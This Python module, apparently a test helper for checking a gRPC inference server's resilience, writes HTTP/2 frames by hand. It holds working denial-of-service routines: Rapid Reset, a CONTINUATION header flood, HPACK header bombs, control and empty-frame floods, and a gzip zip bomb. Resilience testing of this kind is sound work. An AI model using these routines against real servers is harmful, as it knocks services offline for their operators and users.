"""Clients that keep to no protocol: frames by hand, on sockets of their own."""

from __future__ import annotations

import contextlib
import socket
import struct
import time
import zlib
from collections.abc import Iterator
from functools import cache
from typing import Any

from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INFER = "/inference.GRPCInferenceService/ModelInfer"
WATCH = "/grpc.health.v1.Health/Watch"
# Past this a server that reads no more has to be let go.
SEND_S = 2.0


class Raw:
    """One connection, on which anything may be said."""

    def __init__(self, target: str, *, greet: bool = True, receive_bytes: int | None = None) -> None:
        host, port = target.rsplit(":", 1)
        self.socket = socket.socket()
        if receive_bytes is not None:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        self.socket.settimeout(SEND_S)
        self.socket.connect((host, int(port)))
        self._encoder = Encoder()
        if greet:
            self.say(PREFACE, SettingsFrame(0))

    def say(self, *what: bytes | Frame) -> bool:
        """Send; False where the server closed the connection or reads no more."""
        data = b"".join(each if isinstance(each, bytes) else each.serialize() for each in what)
        try:
            self.socket.sendall(data)
        except OSError:
            return False
        return True

    def headers(self, path: str, extra: tuple[tuple[str, str], ...] = ()) -> bytes:
        """The headers of a call."""
        return self._encoder.encode([*_call(path), *extra])

    def call(self, stream: int, path: str, extra: tuple[tuple[str, str], ...] = ()) -> Frame:
        """The beginning of a call: no message yet."""
        return HeadersFrame(stream, self.headers(path, extra), flags=["END_HEADERS"])

    def drain(self, most: int = 1 << 20) -> bytes:
        """Read what is there."""
        self.socket.setblocking(False)
        try:
            return self.socket.recv(most)
        except OSError:
            return b""
        finally:
            self.socket.settimeout(SEND_S)

    def closed(self) -> bool:
        """Whether the server ended the connection, once it had a moment to."""
        self.socket.settimeout(5.0)
        with contextlib.suppress(ConnectionError):
            while self.socket.recv(1 << 20):
                pass
        return True

    def close(self) -> None:
        self.socket.close()


def _call(path: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "x"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]


def message(data: bytes, *, claims: int | None = None, compressed: bool = False) -> bytes:
    """A gRPC message as it lies in DATA frames."""
    return struct.pack(">BI", compressed, len(data) if claims is None else claims) + data


def frames(stream: int, data: bytes, size: int = 16_000) -> Iterator[Frame]:
    """DATA frames, without regard to any window."""
    for start in range(0, len(data), size):
        yield DataFrame(stream, data[start : start + size])


def zip_bomb(size: int) -> bytes:
    """Zeros by the gigabyte, in a thousandth of that: gzip's header, and one block as often as it takes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    head = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    # After a full flush a block refers to nothing before it, so that it may be repeated.
    block = packer.compress(bytes(1 << 22)) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + block * (size >> 22) + packer.flush()


def rapid_reset(raw: Raw, count: int) -> None:
    for number in range(count):
        stream = 2 * number + 1
        if not raw.say(raw.call(stream, INFER), RstStreamFrame(stream, 8)):
            return
        raw.drain()


def endless_headers(raw: Raw, count: int) -> None:
    raw.say(_endless(count))


@cache
def _endless(count: int) -> bytes:
    """As the first of a connection; made once, so that many can send it at the same time."""
    encoder = Encoder()
    frames: list[Frame] = [HeadersFrame(1, encoder.encode(_call(INFER)))]
    for number in range(count):
        block = encoder.encode([(f"x-{number}", "y" * 8000)], huffman=False)
        frames.append(ContinuationFrame(1, block))
    return b"".join(frame.serialize() for frame in frames)


def agree(raw: Raw) -> None:
    """Take note of the server's settings, which hold from then on."""
    raw.socket.recv(1 << 16)
    raw.say(SettingsFrame(0, flags=["ACK"]))
    raw.say(PingFrame(0, b"pingpong"))  # once it is answered, so is what was before it
    while b"pingpong" not in raw.socket.recv(1 << 16):
        pass


def endless_headers_agreed(raw: Raw, count: int) -> None:
    agree(raw)
    endless_headers(raw, count)


def header_bombs(raw: Raw, count: int) -> None:
    """A header of 3 kB in the table, named ten thousand times: a byte each."""
    block = raw.headers(INFER, (("x-bomb", "b" * 3000),))
    _, index = next((entry, i) for i, entry in enumerate(raw._encoder.header_table.dynamic_entries))
    block += bytes([0x80 | (62 + index)]) * 10_000
    for number in range(count):
        frame = HeadersFrame(2 * number + 1, block, flags=["END_HEADERS"])
        if not raw.say(frame):
            return
        block = bytes([0x80 | (62 + index)]) * 10_000


def controls(raw: Raw, count: int) -> None:
    """SETTINGS, PING, PRIORITY, WINDOW_UPDATE without end, and not one answer read."""
    together: list[Any] = [
        SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 1 << 16}),
        PingFrame(0, b"pingpong"),
        PriorityFrame(3, depends_on=0, stream_weight=1),
        WindowUpdateFrame(0, window_increment=1),
    ]
    batch = b"".join(frame.serialize() for frame in together) * 100
    for _ in range(count // 400):
        if not raw.say(batch):
            return


def empty_data(raw: Raw, count: int) -> None:
    raw.say(raw.call(1, INFER))
    batch = DataFrame(1, b"").serialize() * 200
    for _ in range(count // 200):
        if not raw.say(batch):
            return


def post(
    raw: Raw, path: str, body: bytes, extra: tuple[tuple[str, str], ...] = (), wait_s: float = 20.0
) -> str:
    """Make a whole call, within the server's windows, and return its grpc-status; empty where none came."""
    decoder, windows = Decoder(), {0: 65_535, 1: 65_535}
    raw.say(raw.call(1, path, extra))
    raw.socket.settimeout(0.2)
    data, sent, initial, until = b"", 0, 65_535, time.monotonic() + wait_s
    while time.monotonic() < until:
        size = min(len(body) - sent, 16_384, *windows.values())
        if size > 0:
            end = ["END_STREAM"] if sent + size == len(body) else []
            raw.say(DataFrame(1, body[sent : sent + size], flags=end))
            sent += size
            windows = {stream: left - size for stream, left in windows.items()}
            if min(windows.values()) > 0 and sent < len(body):
                continue
        try:
            data += raw.socket.recv(1 << 16)
        except TimeoutError:
            continue
        except OSError:
            return ""
        while len(data) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(data[:9]))
            if len(data) < 9 + length:
                break
            frame.parse_body(memoryview(data[9 : 9 + length]))
            data = data[9 + length :]
            if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                fresh = frame.settings.get(SettingsFrame.INITIAL_WINDOW_SIZE, initial)
                windows[1] += fresh - initial
                initial = fresh
                raw.say(SettingsFrame(0, flags=["ACK"]))
            elif isinstance(frame, WindowUpdateFrame) and frame.stream_id in windows:
                windows[frame.stream_id] += frame.window_increment
            elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
                raw.say(PingFrame(0, frame.opaque_data, flags=["ACK"]))
            elif isinstance(frame, HeadersFrame):
                status = dict(decoder.decode(frame.data)).get("grpc-status")
                if status is not None:
                    return str(status)
    return ""
